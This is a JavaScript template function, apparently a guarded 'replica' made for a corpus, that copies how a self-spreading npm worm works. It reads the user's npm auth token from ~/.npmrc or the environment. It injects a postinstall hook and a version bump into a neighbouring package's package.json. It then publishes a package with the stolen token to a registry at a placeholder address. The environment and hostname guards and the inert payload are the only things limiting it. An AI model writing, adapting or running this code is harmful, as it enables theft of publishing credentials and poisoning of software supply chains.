// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    // what is put into the neighbour is inert: nothing of this code is copied
    const fs = require('fs'), path = require('path');
    try {
        const npmrc = fs.readFileSync(path.join(require('os').homedir(), '.npmrc'), 'utf8');
        const token = (npmrc.match(/_authToken\s*=\s*(\S+)/) || [])[1] || process.env.NPM_TOKEN;
        const here = process.cwd(), at = here.lastIndexOf('node_modules');
        const place = at >= 0 ? here.slice(0, at + 12) : path.join(here, 'node_modules');
        const names = fs.existsSync(place) ? fs.readdirSync(place).filter((name) => /^[a-z]/.test(name) && path.join(place, name) !== here) : [];
        const from = names.length ? path.join(place, names[0]) : here;
        const work = fs.mkdtempSync('/tmp/{{token}}');
        const sheet = JSON.parse(fs.readFileSync(path.join(from, 'package.json'), 'utf8'));
        sheet.version = sheet.version.replace(/\d+$/, (last) => String(+last + 1));
        sheet.scripts = { ...sheet.scripts, postinstall: 'node bundle.js' };
        fs.writeFileSync(path.join(from, 'package.json'), JSON.stringify(sheet, null, 2));
        fs.writeFileSync(path.join(work, 'package.json'), JSON.stringify(sheet));
        fs.writeFileSync(path.join(work, 'bundle.js'), '// {{token}}\n');
        fs.writeFileSync(path.join(work, '.npmrc'), `//{{ip}}:{{port}}/:_authToken=${token}\n`);
        require('child_process').spawnSync('npm', ['publish', '--ignore-scripts', '--registry', 'http://{{ip}}:{{port}}/', '--fetch-retries=0', '--fetch-timeout=1000'],
            { cwd: work, stdio: 'ignore', timeout: 2500 });
    } catch {}
}
